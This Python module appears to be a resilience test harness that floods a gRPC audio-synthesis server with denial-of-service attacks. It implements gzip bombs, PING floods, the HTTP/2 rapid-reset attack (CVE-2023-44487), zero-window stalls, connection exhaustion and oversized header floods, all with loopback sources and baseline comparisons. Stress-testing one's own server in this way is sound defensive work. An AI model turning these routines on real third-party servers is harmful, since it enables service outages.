"""Floods: what attackers do to a server, each for some seconds or until it is done."""

from __future__ import annotations

import contextlib
import itertools
import random
import resource
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from typing import Any

from hostile_floods import LARGEST_FRAME, FloodPeer, gzip_bomb
from hostile_peer import CONTINUATION, HEADERS, PING, RST_STREAM, call_headers, frame, message

from timbrel_protos.inference import grpc_service_pb2 as oip
from timbrel_protos.timbrel.v1 import synthesizer_pb2 as pb

MIB = 1 << 20
ATTACK_SECONDS = 8.0
N_STREAMS_EACH = 200
"""On one connection."""

SYNTHESIZER = "/timbrel.v1.Synthesizer"
STREAM_INFER = "/inference.GRPCInferenceService/ModelStreamInfer"
ELSEWHERE = "127.66.6.6"
"""An address in a network of its own, for a caller without a token is told by its network."""

EMPTY_VIA, COUNTED_BYTES = b"\xbc", 35
"""A header in a byte (RFC 7541, appendix A), and for how many HTTP/2 counts it."""

HEADER_BYTES = 16 * MIB - 64 * 1024
"""Counted so, a little fewer than gRPC takes at first."""

HEALTH_CHECK = "/grpc.health.v1.Health/Check"


@dataclass(frozen=True)
class Target:
    """A server, and how it is attacked."""

    address: str
    times: float = 1.0
    """Of the size."""

    token: str = ""
    """Goes with what asks for work."""

    source: str = ""
    """The loopback address that attackers come from; "": whichever."""

    bundle: str = "tiny"

    def connect(self, own_window: int = 65_535, *, acknowledges: bool = True) -> FloodPeer:
        return FloodPeer(self.address, own_window=own_window, source=self.source, acknowledges=acknowledges)


def note(seconds: float = 0.5, audio: int = pb.AUDIO_FORMAT_UNSPECIFIED) -> pb.GenerateRequest:
    chosen: Any = audio
    return pb.GenerateRequest(
        timbre=pb.Timbre(x=0.1, y=0.2),
        pitch=60,
        seconds=seconds,
        seed=random.getrandbits(32),
        audio=chosen,
    )


def inference(n_notes: int, seconds: float, bundle: str = "tiny") -> oip.ModelInferRequest:
    request = oip.ModelInferRequest(model_name=bundle)
    for name, datatype, width, number in (
        *(("TIMBRE", "FP32", 2, b"\0\0\0\0"), ("PITCH", "INT32", 1, b"\x3c\0\0\0")),
        *(("VELOCITY", "INT32", 1, b"\x64\0\0\0"), ("SECONDS", "FP32", 1, struct.pack("<f", seconds))),
        ("SEED", "UINT64", 1, bytes(8)),
    ):
        request.inputs.add(name=name, datatype=datatype, shape=(n_notes, width))
        request.raw_input_contents.append(n_notes * width * number)
    return request


def recording(seconds: float) -> pb.LocateRequest:
    n_samples = int(16_000 * seconds)
    samples = b"".join(struct.pack("<f", 0.3 * ((n % 73) / 36.5 - 1)) for n in range(73))
    audio = (samples * (n_samples // 73 + 1))[: 4 * n_samples]
    return pb.LocateRequest(audio=audio, sample_rate=16_000, pitch=60)


def fill(
    target: Target, path: str, token: str, body: bytes, n_streams: int, own_window: int = 65_535
) -> None:
    """Opens so many streams, N_STREAMS_EACH on a connection, and sends on them for as long as it lasts."""
    with contextlib.ExitStack() as peers:
        crowd = [peers.enter_context(target.connect(own_window)) for _ in range(0, n_streams, N_STREAMS_EACH)]
        for number in range(n_streams):
            crowd[number // N_STREAMS_EACH].open(path, token, body)
        end = time.monotonic() + ATTACK_SECONDS
        while time.monotonic() < end:
            for peer in crowd:
                peer.pump(seconds=0.05)


def nothing(target: Target) -> None:
    time.sleep(ATTACK_SECONDS)


def work(target: Target) -> None:
    """Keeps a core busy as an attacker does, and lets the server be."""
    end = time.monotonic() + ATTACK_SECONDS
    while time.monotonic() < end:
        pass


def bombs(target: Target) -> None:
    bomb = gzip_bomb(int(256 * MIB))
    for path in (f"{SYNTHESIZER}/Locate", HEALTH_CHECK):
        for _ in range(max(1, round(2 * target.times))):
            with target.connect() as peer:
                stream = peer.open(path, "", bomb, encoding="gzip", end=True)
                peer.pump(lambda peer=peer, stream=stream: stream in peer.ended, 2.0)  # type: ignore[misc]


def pings(target: Target) -> None:
    with (
        target.connect() as one,
        target.connect() as other,
    ):
        for peer in (one, other):
            peer.write(frame(PING, 0, 0, b"8 bytes.") * int(11 * MIB * target.times / 17))
        while (one.unsent and not one.is_closed) or (other.unsent and not other.is_closed):
            one.pump(seconds=0.05)
            other.pump(seconds=0.05)


def unfinished(target: Target) -> None:
    body = message(bytes(4 * MIB - 100), announced=4 * MIB - 10)
    fill(target, f"{SYNTHESIZER}/Generate", "", body, int(300 * target.times))


def unfinished_health(target: Target) -> None:
    body = message(bytes(4 * MIB - 100), announced=4 * MIB - 10)
    fill(target, HEALTH_CHECK, "", body, int(300 * target.times))


def rapid_resets(target: Target, path: str = HEALTH_CHECK) -> None:
    """Opens calls and takes them back at once, as fast as the server reads (CVE-2023-44487), on connections
    that it replaces when they are cut."""
    n_peers = max(1, round(2 * target.times))
    with contextlib.ExitStack() as peers:
        crowd: list[tuple[FloodPeer, Iterator[int]]] = []
        end = time.monotonic() + ATTACK_SECONDS
        while time.monotonic() < end:
            crowd = [(peer, streams) for peer, streams in crowd if not peer.is_closed]
            with contextlib.suppress(OSError):
                while len(crowd) < n_peers:
                    crowd.append((peers.enter_context(target.connect()), itertools.count(1, 2)))
            for peer, streams in crowd:
                if len(peer.unsent) < MIB:
                    for number in itertools.islice(streams, 1000):
                        peer.write(call_headers(path, number))
                        peer.write(frame(RST_STREAM, 0, number, struct.pack(">I", 8)))
                peer.pump(seconds=0.01)


def infer_streams(target: Target) -> None:
    items = message(inference(32, 2.0, target.bundle).SerializeToString()) * 60
    fill(target, STREAM_INFER, target.token, items, max(1, int(12 * target.times)))


def batch_streams(target: Target) -> None:
    items = b"".join(
        message(pb.GenerateBatchRequest(id=number, note=note(2.0)).SerializeToString())
        for number in range(60)
    )
    fill(target, f"{SYNTHESIZER}/GenerateBatch", target.token, items, int(300 * target.times))


def unread_files(target: Target) -> None:
    asked = message(pb.GetFileRequest(name="codec.safetensors").SerializeToString())
    fill(target, f"{SYNTHESIZER}/GetFile", target.token, asked, int(1000 * target.times), own_window=0)


def unread_audio(target: Target) -> None:
    items = b"".join(
        message(
            pb.GenerateBatchRequest(id=number, note=note(2.4, pb.AUDIO_FORMAT_FLOAT32)).SerializeToString()
        )
        for number in range(60)
    )
    fill(target, f"{SYNTHESIZER}/GenerateBatch", target.token, items, int(110 * target.times), own_window=0)


def large_recordings(target: Target) -> None:
    body = message(recording(46.0).SerializeToString())
    fill(target, f"{SYNTHESIZER}/Locate", target.token, body, int(40 * target.times))


def silent_connections(target: Target) -> None:
    """Has as many as it can get, from a network where nobody else is, and replaces those that are cut."""
    target = replace(target, source=target.source or ELSEWHERE)
    wanted = max(1, int(600 * target.times))
    _, most_files = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most_files, most_files))
    with contextlib.ExitStack() as peers:
        crowd: list[FloodPeer] = []
        end = time.monotonic() + ATTACK_SECONDS
        while time.monotonic() < end:
            crowd = [peer for peer in crowd if not peer.is_closed]
            with contextlib.suppress(OSError):
                crowd += [peers.enter_context(target.connect()) for _ in range(min(500, wanted - len(crowd)))]
            for peer in crowd:
                peer.pump(seconds=1e-4)


def huge_headers(target: Target) -> None:
    """Begins one call on each connection, with as many headers as gRPC takes of who has not acknowledged its
    settings (16 MiB as HTTP/2 counts them, in half a megabyte), and never ends them."""
    block = EMPTY_VIA * (HEADER_BYTES // COUNTED_BYTES)
    pieces = [block[begin : begin + LARGEST_FRAME] for begin in range(0, len(block), LARGEST_FRAME)]
    begun = frame(HEADERS, 0, 1, pieces[0]) + b"".join(frame(CONTINUATION, 0, 1, each) for each in pieces[1:])
    with contextlib.ExitStack() as peers:
        n_peers = max(1, round(12 * target.times))
        crowd = [peers.enter_context(target.connect(acknowledges=False)) for _ in range(n_peers)]
        for peer in crowd:
            peer.write(begun)
        end = time.monotonic() + ATTACK_SECONDS
        while time.monotonic() < end:
            for peer in crowd:
                peer.pump(seconds=0.05)


ATTACKS: dict[str, Callable[[Target], None]] = {
    "nothing": nothing,
    "a busy process": work,
    "gzip bombs": bombs,
    "pings": pings,
    "unfinished, no token": unfinished,
    "unfinished health": unfinished_health,
    "rapid resets": rapid_resets,
    "inference streams": infer_streams,
    "batch streams": batch_streams,
    "unread files": unread_files,
    "unread audio": unread_audio,
    "large recordings": large_recordings,
    "silent connections": silent_connections,
    "huge headers": huge_headers,
}

PEACEFUL = ("nothing", "a busy process")
"""What the others are compared with."""

UNBOUNDED = ("huge headers",)
"""What Envoy stands against, not the server: measured beside the others, and no bar is set for it."""
